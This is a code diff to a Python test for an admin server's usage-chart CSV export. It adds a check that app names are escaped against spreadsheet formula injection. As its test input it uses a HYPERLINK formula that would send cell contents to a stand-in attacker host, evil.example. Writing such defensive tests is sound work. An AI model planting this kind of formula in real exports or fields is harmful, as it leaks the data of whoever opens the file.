@@ -8,6 +8,8 @@ holds exactly the chart's numbers.
 
 from __future__ import annotations
 
+import csv
+import io
 from pathlib import Path
 from typing import Any
 
@@ -139,7 +141,9 @@ async def test_chart_csv_money_is_exact_to_the_micro_dollar(redis_url: str, tmp_
     settings = make_settings(redis_url, tmp_path, catalog_path=str(catalog), operator=True)
     async with running_bot() as bot, admin_server(settings, traffic=True) as admin:
         tok, ws = await admin.owner_workspace()
-        app = await admin.new_app(tok, ws, bot.url, product="contact_center")
+        # Any member who can name an app could aim a formula at the owner's download.
+        formula = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+        app = await admin.new_app(tok, ws, bot.url, product="contact_center", name=formula)
         async with aiohttp.ClientSession(cookie_jar=aiohttp.CookieJar(unsafe=True)) as http:
             for i in range(3):
                 url = f"{admin.traffic_url}/hooks/web/{app}/msg"
@@ -151,6 +155,9 @@ async def test_chart_csv_money_is_exact_to_the_micro_dollar(redis_url: str, tmp_
                 chart = await r.json()
             async with http.get(f"{admin.url}/ui/api/usage-chart?{q}&format=csv") as r:
                 rows = [ln.split(",") for ln in (await r.text()).strip().split("\n")[1:]]
+            async with http.get(f"{admin.url}/ui/api/usage-chart?{q}&by=app&format=csv") as r:
+                header = next(csv.reader(io.StringIO(await r.text())))
+    assert header == ["period_start", "'" + formula]  # shown as text, never run
     values = chart["series"][0]["values"]
     assert sum(values) == 3 * 1_500  # three requests at $0.0015
     assert [row[1:] for row in rows] == [[format_amount(v)] for v in values]
